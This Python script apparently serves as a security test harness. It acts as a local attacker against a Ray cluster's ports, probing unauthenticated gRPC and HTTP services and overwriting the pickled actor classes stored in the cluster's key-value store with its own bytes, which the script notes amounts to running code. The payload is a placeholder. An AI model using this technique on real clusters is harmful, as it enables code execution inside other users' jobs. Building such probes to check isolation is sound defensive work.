"""Another user of this machine, who has its ports and nothing else: attacks what listens, by TCP alone.

Reads ports, a line each, and answers each with what came of it as a line of JSON: the names of the answers it got, and
whether it put something of its own in the place of an actor's class. Raw calls: a thief asks for no `ray.init`.
"""

from __future__ import annotations

import http.client
import importlib
import json
import sys
import time
from typing import Any

# Without types of their own.
grpc: Any = importlib.import_module("grpc")
gcs: Any = importlib.import_module("ray.core.generated.gcs_service_pb2")

ACTORS, FUNCTIONS = (
    b"ActorClass",
    b"fun",
)  # the pickled classes of actors: who writes there runs code
PATIENCE = 20.0  # seconds that it waits for an actor's class to turn up
TRIES = 5
# One call of each kind of service of a cluster; an empty request is enough to see whether somebody answers.
CALLS = (
    "InternalKVGcsService/InternalKVKeys",
    "NodeInfoGcsService/GetAllNodeInfo",
    "NodeManagerService/GetNodeStats",
    "ObjectManagerService/Push",
    "CoreWorkerService/GetCoreWorkerStats",
)


def call(channel: Any, name: str, request: bytes = b"") -> tuple[str, bytes]:
    """The status of an answer, and the answer."""
    status = ""
    for _ in range(TRIES):
        try:
            return "OK", channel.unary_unary(f"/ray.rpc.{name}")(request, timeout=2.0)
        except grpc.RpcError as error:
            status = error.code().name
            if status != "DEADLINE_EXCEEDED":  # a service that is only starting lets one wait
                break
    return status, b""


def synchronised(channel: Any) -> str:
    """What a stream of the cluster's state says to a node that it does not know."""
    ask = channel.stream_stream("/ray.rpc.syncer.RaySyncer/StartSync")
    try:
        list(ask(iter([b""]), timeout=2.0, metadata=[("node_id", "ab" * 28)]))
    except grpc.RpcError as error:
        return str(error.code().name)
    return "OK"


def posted(port: int) -> str:
    """What an agent that installs packages for others' tasks says to a stranger."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10.0)
    try:
        connection.request("POST", "/get_or_create_runtime_env", b"")
        return f"HTTP {connection.getresponse().status}"
    except (OSError, http.client.HTTPException):
        return "no HTTP"
    finally:
        connection.close()


def replace_actors(channel: Any) -> bool:
    """Put something of its own in the place of every actor's class, as soon as there is one; whether there was."""
    keys = gcs.InternalKVKeysRequest(namespace=FUNCTIONS, prefix=ACTORS).SerializeToString()
    done, end = False, time.monotonic() + PATIENCE
    while not done and time.monotonic() < end:
        for key in gcs.InternalKVKeysReply.FromString(call(channel, CALLS[0], keys)[1]).results:
            put = gcs.InternalKVPutRequest(namespace=FUNCTIONS, key=key, value=b"a pickle of the thief's")
            put.overwrite = True
            done |= call(channel, "InternalKVGcsService/InternalKVPut", put.SerializeToString())[0] == "OK"
        time.sleep(0.01)
    return done


def attack(port: int) -> dict[str, Any]:
    """Everything this thief knows, tried on one port."""
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        open_ = call(channel, CALLS[0])[0] == "OK"
        replaced = open_ and replace_actors(channel)
        said = [*(call(channel, name)[0] for name in CALLS), synchronised(channel), posted(port)]
        return {"port": port, "said": said, "replaced": replaced}


if __name__ == "__main__":
    for line in iter(sys.stdin.readline, ""):
        sys.stdout.write(json.dumps(attack(int(line))) + "\n")
        sys.stdout.flush()
